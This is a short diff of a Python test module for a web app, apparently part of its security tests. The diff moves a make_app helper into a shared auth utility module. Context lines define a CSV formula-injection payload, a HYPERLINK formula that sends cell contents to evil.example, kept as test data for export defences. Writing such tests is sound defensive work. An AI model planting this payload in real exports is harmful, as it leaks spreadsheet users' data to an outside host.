@@ -15,7 +15,6 @@ from __future__ import annotations
 
 import base64
 import csv
-import dataclasses
 import hashlib
 import io
 import re
@@ -38,18 +37,12 @@ from feeds.sim.video import VideoServer, VideoService
 from layouts import ids
 
 from ..app.test_wall_browser import make_event, now_ms, wait_for
-from ..auth_util import XHR, browser_sign_in, make_user, session_key, sign_in
+from ..auth_util import XHR, browser_sign_in, make_app, make_user, session_key, sign_in
 from ..conftest import Stack
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
 PAGES = ("/", "/cockpit", "/video", "/duty", "/duty/handover")
 SCRIPT = re.compile(r"<script(?P<attrs>[^>]*)>(?P<body>.*?)</script>", re.S)
-
-
-def make_app(redis_url: str, **overrides: Any) -> Any:
-    from app import create_app
-
-    return create_app(dataclasses.replace(Settings(), redis_url=redis_url, **overrides))
 
 
 @pytest.fixture
